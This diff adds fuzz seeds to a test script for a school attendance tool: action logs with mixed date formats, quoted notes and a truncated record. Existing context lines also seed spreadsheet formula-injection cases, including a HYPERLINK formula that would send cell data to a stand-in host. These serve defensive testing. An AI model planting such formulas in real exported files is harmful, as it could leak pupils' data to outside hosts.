@@ -102,6 +102,9 @@ else
   printf 'code,means,description\nI01,I,Illness\nU1,U,Late after close\nX9,O,"Odd, quoted"\n' | seed
   printf 'code,means\nI01,I\nI01,M\n/,O\n' | seed
   printf 'upn,date,session,mark\nA123456789012,2025-09-03,AM,I01\nA123456789012,2025-09-03,PM,U1\nA123456789012,2025-09-04,AM,I01\n' | seed
+  # actions.csv: a good log (MIS headers, UK dates, quoted notes) and one cut short.
+  printf 'Action Date,Pupil UPN,Action Type,Staff,Notes\n03/11/2025,A123456789012,letter,DO,"termly, green"\n12/01/2026,B123456789012,Penalty Notice,LA,\n20/01/2026,A123456789012,penalty-withdrawn,LA,error\n' | seed
+  printf 'date,upn,action,by,note\n2025-11-17,A123456789012,notice-to-improve,DO,\n2026-01-26,A123456789012,penalty-notice,LA,first\n2026-02-02,A12345' | seed
   # Cells a spreadsheet would run as formulas, quoted and not (issue 12).
   printf 'upn,forename,surname,year,form,contact_name\nW100000000001,=1+1,"=HYPERLINK(""http://x/?""&A1,""y"")",9,9A,@SUM(A1)\nW100000000002,+1,-2+3,9,9A,"\r=x"\n' | seed
   ASAN_OPTIONS=detect_leaks=0 ATTEND_FUZZ_WRITE_SEEDS="$seeds" "$binary" >/dev/null
